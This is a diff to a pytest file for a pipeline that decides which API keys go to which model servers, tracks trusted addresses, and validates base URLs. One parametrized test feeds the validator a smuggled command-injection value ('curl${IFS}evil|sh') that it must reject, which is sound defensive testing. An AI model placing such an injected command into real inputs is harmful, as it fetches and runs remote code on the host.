@@ -6,6 +6,7 @@ import os
 import pty
 import subprocess
 import tomllib
+from contextlib import suppress
 from pathlib import Path
 from urllib.parse import urlsplit
 
@@ -15,6 +16,7 @@ from pipeline.errors import ConfigError
 from pipeline.stage_names import TalkStage
 from pipeline.workspace import api_keys, config, trusted
 from pipeline.workspace.config import ExtractSettings, Settings
+from pipeline.workspace.server_addresses import checked
 from tests.support.fake_endpoint import FakeEndpoint
 from tests.support.fake_server import FakeServer, Handler
 from tests.support.helpers import panel
@@ -60,8 +62,16 @@ def foreign(server: FakeServer) -> str:
     "base_url",
     [None, "https://api.openai.com/v1", "https://api.openai.com/v1/", "https://API.OpenAI.com:443/v1"],
 )
-def test_openais_key_goes_to_openai(base_url: str | None) -> None:
-    assert key_of(by_file(base_url=base_url) if base_url else by_file()) == SECRET
+def test_openais_key_goes_to_openai(base_url: str | None, monkeypatch: pytest.MonkeyPatch) -> None:
+    named: dict[str, object] = {"base_url": base_url} if base_url else {"model": "gpt-4.1-mini"}
+    assert key_of(typed(**{"base_url": "https://api.openai.com/v1"} | named)) == SECRET
+    with pytest.raises(ConfigError, match="paid for with OPENAI_API_KEY, and only this file says so"):
+        key_of(by_file(**named))
+    trusted.remember("servers", "https://api.openai.com/v1", True)
+    assert key_of(by_file(**named)) == SECRET
+    monkeypatch.setenv("OPENAI_BASE_URL", FOREIGN)
+    with pytest.raises(ConfigError, match=f"belongs to {FOREIGN}, not to OpenAI"):
+        key_of(by_file(**named))
 
 
 @pytest.mark.parametrize(
@@ -105,7 +115,7 @@ def test_a_server_may_have_a_key_of_its_own(config_folder: Path, monkeypatch: py
     monkeypatch.setenv("OTHER_KEY", " other\n")
     assert key_of(by_file(base_url=FOREIGN)) == "other"
     assert key_of(typed(base_url=FOREIGN)) == "other"
-    assert key_of(by_file()) == SECRET
+    assert key_of(typed(base_url="https://api.openai.com/v1")) == SECRET
 
 
 def test_a_trusted_server_gets_no_key_that_it_was_not_given(config_folder: Path) -> None:
@@ -113,6 +123,33 @@ def test_a_trusted_server_gets_no_key_that_it_was_not_given(config_folder: Path)
     assert key_of(by_file(base_url=FOREIGN)) == "none"
     with pytest.raises(ConfigError, match="you said that you do not trust it"):
         key_of(by_file(base_url="http://no.example"))
+    trusted.remember("servers", FOREIGN, False)
+    trusted.remember("keys", FOREIGN, "OPENAI_API_KEY")
+    assert key_of(by_file(base_url=FOREIGN)) == SECRET
+    assert trusted.load().servers == {"http://no.example": False}
+
+
+@pytest.mark.parametrize(
+    ("address", "normal"),
+    [
+        ("https://\u0430\u0440\u0456.openai.com/v1", "https://xn--80a6a1d.openai.com/v1"),
+        ("HTTPS://Host:443/v1/", "https://host/v1"),
+        ("http://[::1]:80/v1", "http://[::1]/v1"),
+        ("host:8786", "tcp://host:8786"),
+        ("https://ai.example/v1;curl${IFS}evil|sh", None),
+        *((address, None) for address in ("foo", "host/v1", "tcp://", "http://h:0", "http://h:99999")),
+        *(
+            (address, None)
+            for address in ("https://u:p@h/v1", "https://h/v1?k=x", "http://a b/", "http://h/\x1b")
+        ),
+    ],
+)
+def test_an_address_has_one_form_and_is_nothing_else(address: str, normal: str | None) -> None:
+    if normal:
+        assert checked(address) == normal
+    else:
+        with pytest.raises(ConfigError, match="is not an address"):
+            checked(address)
 
 
 @pytest.mark.parametrize(
@@ -191,6 +228,25 @@ def test_a_sidecar_alone_sends_neither_key_nor_talk_anywhere(tmp_path: Path, con
     assert call(tmp_path, *command, "--force").returncode == 1
 
 
+def test_a_key_is_named_and_not_typed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    typed_key = call(tmp_path, "trust", FOREIGN, "--key", "gsk_abcd1234SECRET")
+    assert typed_key.returncode == 2
+    assert "gsk_" not in typed_key.stdout + typed_key.stderr
+    assert "by https alone" in call(tmp_path, "trust", "http://lan/v1", "--key", "OPENAI_API_KEY").stderr
+    assert "Only a server" in call(tmp_path, "trust", "tcp://h:1", "--key", "OPENAI_API_KEY").stderr
+    assert trusted.load() == trusted.Trusted()
+
+
+def test_a_file_that_is_a_link_stays_one(config_folder: Path, tmp_path: Path) -> None:
+    write(config_folder, "")
+    own = tmp_path / "dotfiles.toml"
+    trusted.trusted_file().unlink()
+    trusted.trusted_file().symlink_to(own)
+    own.write_text('[servers]  # mine\n"https://models.example/v1" = false  # no\n', "utf-8")
+    trusted.remember("servers", FOREIGN, True)
+    assert own.read_text("utf-8") == '[servers]  # mine\n"https://models.example/v1" = true  # no\n'
+
+
 def test_a_key_that_a_server_asks_for_is_told_how_to_give(tmp_path: Path) -> None:
     class Asking(Handler):
         def do_POST(self) -> None:  # noqa: N802
@@ -209,23 +265,36 @@ def test_a_key_that_a_server_asks_for_is_told_how_to_give(tmp_path: Path) -> Non
         assert "refuses the key (hm)" in call(tmp_path, "run", "inputs").stderr
 
 
+def _talk(terminal: int, question: str, too_early: bytes, answer: bytes) -> str:
+    """What a program shows on a terminal where something is typed before its question, and then an answer."""
+    os.write(terminal, too_early)
+    shown, answered = "", not question
+    with suppress(OSError):  # it has ended
+        while part := os.read(terminal, 1 << 16):
+            shown += part.decode()
+            if question in shown and not answered:
+                answered = bool(os.write(terminal, b"\n" + answer))
+    os.close(terminal)
+    return shown
+
+
 @pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 1)])
 def test_a_person_is_asked_once(tmp_path: Path, config_folder: Path, answer: str, code: int) -> None:
     place = panel(tmp_path)
     with FakeEndpoint() as server:
         settings = f'[extract]\nbase_url = "{foreign(server)}"\nmodel = "any"\n'
         (place.root / "takeaways.toml").write_text(settings, "utf-8")
-        for expected in ("Do you trust it?", ""):
+        for expected in ("Do you trust http", ""):
             main, terminal = pty.openpty()
             process = subprocess.Popen(
                 [*PROGRAM, "run", "inputs", "--force"], cwd=tmp_path, stdin=terminal, stderr=terminal,
                 stdout=subprocess.DEVNULL, env=os.environ | {"TERM": "dumb"},
             )  # fmt: skip
-            os.write(main, f"{answer}\n".encode())
-            assert process.wait(PATIENCE) == code
             os.close(terminal)
-            assert expected in os.read(main, 1 << 16).decode()
-            os.close(main)
+            shown = _talk(main, expected, b"y\n\n", f"{answer}\n".encode())
+            assert process.wait(PATIENCE) == code
+            assert expected in shown
+            assert ("That is kept in" in shown) is bool(expected)
         assert bool(server.requests) is (code == 0)
     assert trusted.load().servers == {foreign(server): code == 0}
 
